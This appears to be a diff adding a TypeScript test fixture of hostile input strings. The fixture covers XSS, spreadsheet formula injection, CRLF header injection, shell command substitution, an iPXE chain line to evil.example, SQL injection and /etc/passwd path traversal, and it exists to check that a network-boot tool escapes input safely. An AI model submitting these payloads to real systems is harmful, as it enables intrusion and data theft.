@@ -1,0 +1,36 @@
+/** Texts as somebody hostile would hand them over, by what they try: names, options of DHCP, file names, notes. `hacked` is what they want. */
+export const hostileTexts = {
+  'an element': '<script>window.hacked=1</script>',
+  'an element that fails': '<img src=x onerror=window.hacked=1>',
+  'an element of a picture': '<svg onload=window.hacked=1>',
+  'the end of an attribute': `"' onfocus=window.hacked=1 autofocus x="`,
+  'the end of a script': '</script><script>window.hacked=1</script>',
+  'the end of a title': '</title><img src=x onerror=hacked=1>',
+  'an address': 'javascript:window.hacked=1',
+  'a template': '{{constructor.constructor("hacked=1")()}}',
+  'a formula': '=HYPERLINK("http://evil.example";"hacked")',
+  'a sum': '+1+cmd|" /C calc"!A0',
+  'a difference': '-2+3+cmd|" /C calc"!A0',
+  'a function': '@SUM(1+1)*cmd|" /C calc"!A0',
+  'a formula after a tab': '\t=1+1',
+  'a formula after a return': '\r=1+1',
+  "a terminal's sequences": '\x1b[2J\x1b]0;hacked\x07\x1b[31mred',
+  'text turned around': 'evil\u202etxt.exe\u2066',
+  'a zero byte': 'zero\u0000byte',
+  'control characters': 'bell\u0007del\u007fnext\u0085',
+  'half a character': 'half\ud800',
+  'a header': 'x\r\nSet-Cookie: hacked=1\r\n\r\n<b>',
+  'a line of a log': 'x\n{"level":50,"msg":"hacked"}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a variable of iPXE.
+  'a variable': '${net0/mac} ${hacked}',
+  'a shell': '$(touch /tmp/hacked) `id` \\',
+  'another command': 'quiet || shell ; chain http://evil.example/ && x #c',
+  'the end of quotes': `'";} ''' "" \\" \\' %s %n`,
+  'a statement': `'; drop table device; --`,
+  'a way out': '../../../../etc/passwd',
+  'percent signs': '%00%0d%0a%3Cscript%3E',
+  'something long': 'x'.repeat(65_536),
+} as const
+
+/** What fits through everything that takes printable ASCII of a line's length: devices' words as edges report them. */
+export const printableTexts = Object.values(hostileTexts).filter((text) => /^[\x20-\x7e]{1,64}$/.test(text))
